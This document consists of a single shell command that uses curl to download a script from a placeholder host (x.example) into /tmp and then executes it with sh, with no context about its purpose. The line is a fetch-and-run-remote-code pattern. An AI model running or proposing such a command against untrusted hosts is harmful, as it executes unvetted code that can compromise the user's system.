curl https://x.example/i.sh -o /tmp/i.sh && sh /tmp/i.sh
